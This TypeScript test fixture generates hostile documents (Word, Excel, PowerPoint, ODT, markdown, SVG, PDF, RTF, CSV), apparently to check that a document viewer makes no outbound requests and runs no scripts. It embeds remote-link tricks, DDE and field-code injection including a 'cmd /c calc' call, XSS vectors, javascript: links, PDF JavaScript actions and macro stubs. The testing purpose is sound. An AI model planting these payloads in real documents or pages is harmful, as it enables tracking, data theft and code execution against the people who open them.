import { links, makers, namespaces } from './packages.ts'

/** A document that reaches for an address, in every way that its format knows. */
export interface ReachingOut {
  readonly name: string
  readonly make: (address: string) => Uint8Array | string
  /** What is seen of it once it is open: a selector in the page of the office. */
  readonly shows: string
  /** A button that is clicked for that. */
  readonly click?: string
}

const declaration = '<?xml version="1.0" encoding="UTF-8"?>'
const script = (address: string) => `fetch('${address}/script');window.top.hasRun=true;alert(1)`
const picture = (id: string, name: string) => `<a:blip ${name}="${id}"/><a:stretch><a:fillRect/></a:stretch>`

const wordPicture = (id: string) =>
  `<w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="far"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="far"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>${picture(id, 'r:link')}</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>`

const drawing =
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'

const word = (address: string): Uint8Array => {
  const field = (code: string) =>
    `<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
  const body = [
    `<w:p><w:r><w:t>Seen</w:t></w:r><w:r>${wordPicture('rId1')}</w:r><w:r>${wordPicture('rId1').replace('r:link', 'r:embed')}</w:r></w:p>`,
    `<w:p><w:hyperlink r:id="rId2"><w:r><w:t>link</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId3"><w:r><w:t>run</w:t></w:r></w:hyperlink></w:p>`,
    `<w:p>${field(`INCLUDEPICTURE "${address}/field.png" \\d`)}${field(`INCLUDETEXT "${address}/text.docx"`)}${field(`DDEAUTO "${address}/dde" "x"`)}</w:p>`,
    `<w:p><w:r><w:object><v:shape style="width:50pt;height:50pt"><v:imagedata r:id="rId1" o:href="${address}/vml.png"/></v:shape><o:OLEObject Type="Link" ProgID="Word.Document.12" r:id="rId4" UpdateMode="Always"/></w:object></w:r></w:p>`,
    `<w:p><w:subDoc r:id="rId5"/><w:r><w:t xml:space="preserve"> end</w:t></w:r></w:p>`,
  ].join('')
  return makers.docx(`${body.replaceAll('<w:p>', `<w:p ${drawing}>`)}`, '', {
    'word/_rels/document.xml.rels': links(
      ['image', `${address}/picture.png`],
      ['hyperlink', `${address}/link`],
      ['hyperlink', `javascript:${script(address)}`],
      ['oleObject', `${address}/object.docx`],
      ['subDocument', `${address}/sub.docx`],
      ['attachedTemplate', `${address}/template.dotm`],
      ['frame', `${address}/frame.html`],
      ['stylesheet', `${address}/style.css`],
    ),
    'word/settings.xml': `${declaration}<w:settings ${namespaces.docx}><w:attachedTemplate r:id="rId1"/></w:settings>`,
    'word/_rels/settings.xml.rels': links(['attachedTemplate', `${address}/attached.dotm`]),
    'word/fontTable.xml': `${declaration}<w:fonts ${namespaces.docx}><w:font w:name="Far"><w:embedRegular r:id="rId1"/></w:font></w:fonts>`,
    'word/_rels/fontTable.xml.rels': links(['font', `${address}/font.odttf`]),
    'word/vbaProject.bin': 'Sub AutoOpen()',
  })
}

const workbook = (address: string): Uint8Array => {
  const cells = [
    'WEBSERVICE("ADDRESS/web")',
    'IMAGE("ADDRESS/image.png")',
    'HYPERLINK("ADDRESS/hyper","x")',
    'IMPORTDATA("ADDRESS/data")',
    "'[1]Far'!A1",
    'DDE("cmd","/c calc","x")',
  ].map((formula, index) => {
    const source = formula.replace('ADDRESS', address).replaceAll('"', '&quot;')
    return `<row r="${index + 2}"><c r="A${index + 2}"><f ca="1">${source}</f></c></row>`
  })
  const rows = `<row r="1"><c r="A1" t="inlineStr"><is><t>Seen</t></is></c></row>${cells.join('')}`
  return makers.xlsx(rows, '', {
    'xl/worksheets/_rels/sheet1.xml.rels': links(
      ['drawing', '../drawings/drawing1.xml'],
      ['hyperlink', `${address}/link`],
    ),
    'xl/drawings/drawing1.xml': `${declaration}<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><xdr:oneCellAnchor><xdr:from><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="900000" cy="900000"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="1" name="far"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>${picture('rId1', 'r:link')}</xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>`,
    'xl/drawings/_rels/drawing1.xml.rels': links(['image', `${address}/picture.png`]),
    'xl/externalLinks/externalLink1.xml': `${declaration}<externalLink ${namespaces.xlsx}><externalBook r:id="rId1"><sheetNames><sheetName val="Far"/></sheetNames></externalBook></externalLink>`,
    'xl/externalLinks/_rels/externalLink1.xml.rels': links(['externalLinkPath', `${address}/far.xlsx`]),
    'xl/connections.xml': `${declaration}<connections ${namespaces.xlsx}><connection id="1" name="far" type="4" refreshOnLoad="1"><webPr url="${address}/connection"/></connection></connections>`,
    'xl/vbaProject.bin': 'Sub Auto_Open()',
  })
}

const presentation = (address: string): Uint8Array =>
  makers.pptx(
    `<a:bodyPr/><a:p><a:r><a:rPr><a:hlinkClick r:id="rId2"/></a:rPr><a:t>Seen</a:t></a:r></a:p></p:txBody></p:sp><p:pic><p:nvPicPr><p:cNvPr id="9" name="far"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>${picture('rId1', 'r:link')}</p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic><p:pic><p:nvPicPr><p:cNvPr id="10" name="film"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="rId3"/></p:nvPr></p:nvPicPr><p:blipFill>${picture('rId1', 'r:embed')}</p:blipFill><p:spPr/></p:pic><p:sp><p:nvSpPr/><p:spPr><a:blipFill>${picture('rId1', 'r:link')}</a:blipFill></p:spPr><p:txBody><a:p/>`,
    '',
    {
      'ppt/slides/_rels/slide1.xml.rels': links(
        ['image', `${address}/picture.png`],
        ['hyperlink', `javascript:${script(address)}`],
        ['video', `${address}/film.mp4`],
        ['audio', `${address}/sound.mp3`],
        ['oleObject', `${address}/object.xlsx`],
      ),
    },
  )

const text = (address: string): Uint8Array => {
  const link = (path: string) =>
    `xlink:href="${address}/${path}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"`
  return makers.odt(
    `<text:p>Seen<draw:frame text:anchor-type="as-char"><draw:image ${link('picture.png')}/></draw:frame><draw:frame><draw:object ${link('object.ods')}/></draw:frame><draw:frame><draw:floating-frame ${link('frame.html')}/></draw:frame><draw:frame><draw:plugin ${link('plugin.swf')}/></draw:frame></text:p><text:section text:name="far"><text:section-source ${link('section.odt')}/></text:section><text:p><text:a xlink:href="javascript:${script(address)}">run</text:a></text:p>`,
    '',
    {
      'styles.xml': `${declaration}<office:document-styles ${namespaces.odt} xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"><office:font-face-decls><style:font-face style:name="Far" svg:font-family="Far"><svg:font-face-src><svg:font-face-uri ${link('font.ttf')}/></svg:font-face-src></style:font-face></office:font-face-decls><office:styles><style:default-style style:family="paragraph"><style:paragraph-properties><style:background-image ${link('background.png')}/></style:paragraph-properties></style:default-style></office:styles></office:document-styles>`,
    },
  )
}

const markdown = (address: string): string => `# Seen

![far](${address}/picture.png) <img src="${address}/html.png" onerror="${script(address)}">
<iframe src="${address}/frame"></iframe><script>${script(address)}</script><style>@import "${address}/style.css"</style>
<svg onload="${script(address)}"><image href="${address}/svg.png"/></svg> <link rel="stylesheet" href="${address}/link.css">
[run](javascript:${script(address)}) [data](data:text/html,<script>${script(address)}</script>)
<form action="${address}/form"><input autofocus onfocus="${script(address)}"></form> <meta http-equiv="refresh" content="0;url=${address}/meta">
`

const svg = (address: string): string =>
  `${declaration}<?xml-stylesheet href="${address}/sheet.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${script(address)}"><script>${script(address)}</script><script href="${address}/far.js"/><style>@import url(${address}/style.css); rect { fill: url(${address}/fill.svg#x) } @font-face { font-family: f; src: url(${address}/font.woff2) }</style><image xlink:href="${address}/picture.png" width="9" height="9"/><use href="${address}/use.svg#x"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${address}/frame"/></foreignObject><rect width="9" height="9"/><text font-family="f">x</text></svg>`

const pdf = (address: string): string => {
  const action = `<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\("${address}/launch"\\);this.submitForm\\("${address}/submit"\\))>>`
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}/AA<</WC ${action}>>/Names<</JavaScript<</Names[(x) ${action}]>>>>/AcroForm<</Fields[6 0 R]/XFA 8 0 R>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>/XObject<</I 7 0 R>>>>/Annots[6 0 R 9 0 R]/AA<</O ${action}>>>>`,
    '<</Length 46>>stream\nBT /F 12 Tf 20 100 Td (Seen) Tj ET q 9 0 0 9 0 0 cm /I Do Q\nendstream',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/Rect[20 20 90 40]/AA<</K ${action}/F ${action}/C ${action}>>>>`,
    `<</Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${address}/picture.png)>>/Length 0>>stream\n\nendstream`,
    `<</Length 60>>stream\n<xdp><template><script>${address}</script></template></xdp>\nendstream`,
    `<</Type/Annot/Subtype/Link/Rect[20 60 90 80]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>`,
  ]
  return `%PDF-1.7\n${objects.map((object, index) => `${index + 1} 0 obj${object}endobj\n`).join('')}trailer<</Root 1 0 R/Size 10>>\n%%EOF\n`
}

const rich = (address: string): string =>
  `{\\rtf1\\ansi Seen {\\field{\\*\\fldinst INCLUDEPICTURE "${address}/field.png" \\\\d}{\\fldrslt x}}{\\*\\template ${address}/template.dotm}{\\field{\\*\\fldinst INCLUDETEXT "${address}/text.rtf"}{\\fldrslt y}}\\par}`

const flat = (address: string): string =>
  `${declaration}<office:document ${namespaces.odt} office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>Seen<draw:frame text:anchor-type="as-char"><draw:image xlink:href="${address}/flat.png" xlink:actuate="onLoad"/></draw:frame></text:p><text:section text:name="far"><text:section-source xlink:href="${address}/flat.odt"/></text:section></office:text></office:body></office:document>`

const onPages = '.textLayer span'

/** One of each kind that is opened, and of those that the converter makes pages of. */
export const reachingOut: readonly ReachingOut[] = [
  { name: 'letter.docx', make: word, shows: '.word[aria-busy=false] .layout-page' },
  { name: 'letter with macros.docm', make: word, shows: '.word[aria-busy=false] .layout-page' },
  { name: 'sheet.xlsx', make: workbook, shows: '.grid canvas' },
  { name: 'sheet with macros.xlsm', make: workbook, shows: '.grid canvas' },
  { name: 'slides.pptx', make: presentation, shows: '.stage :text("Seen")' },
  { name: 'text.odt', make: text, shows: '.stage :text("Seen")' },
  { name: 'page.md', make: markdown, shows: '.preview-pane h1', click: 'Text and preview' },
  { name: 'drawing.svg', make: svg, shows: '.stage img' },
  { name: 'paper.pdf', make: pdf, shows: onPages },
  { name: 'page.html', make: markdown, shows: '.cm-line' },
  {
    name: 'table.csv',
    make: (address) => `Seen,=WEBSERVICE("${address}/csv"),"=IMAGE(""${address}/csv.png"")"\n`,
    shows: '.grid canvas',
  },
  { name: 'rich.rtf', make: rich, shows: onPages },
  { name: 'flat.fodt', make: flat, shows: onPages },
]
